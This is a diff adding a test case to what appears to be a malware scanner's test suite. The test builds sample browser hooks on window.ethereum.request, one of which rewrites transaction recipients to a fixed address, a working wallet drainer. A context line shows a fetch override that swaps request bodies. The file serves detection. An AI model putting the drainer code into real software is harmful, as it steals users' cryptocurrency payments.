@@ -509,6 +509,16 @@ window.fetch = (u, o) => f(u, o && o.body ? { ...o, body: swap(o.body) } : o);
     expect(['high', 'critical']).toContain(r.level);
   });
 
+  it('a window.ethereum.request hook that writes a fixed receiver into transactions is high; one that only forwards stays medium', () => {
+    const hook = (body: string) => `;(function(){if(typeof window==='undefined'||!window.ethereum)return;const A='${addresses[0]}';const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async function(a){${body}return o(a);};})();\n`;
+    const drainer = scan({ 'index.js': hook("if(a&&a.method==='eth_sendTransaction'&&a.params&&a.params[0]){a.params[0].to=A;}") });
+    expect(drainer.ids).toContain('browser-payload/swapper');
+    expect(['high', 'critical']).toContain(drainer.level);
+    const forwarding = scan({ 'index.js': hook("console.debug('request', a.method, A);") });
+    expect(forwarding.ids).toContain('browser-payload/swapper');
+    expect(forwarding.level).toBe('medium');
+  });
+
   it('a fetch polyfill that installs itself when missing is not reported', () => {
     const r = scan({
       'fetch.js': `function fetchPolyfill(input, init) { return new Promise(function (resolve) { var xhr = new XMLHttpRequest(); xhr.open('GET', input); xhr.onload = function () { resolve(xhr.responseText); }; xhr.send(init && init.body); }); }
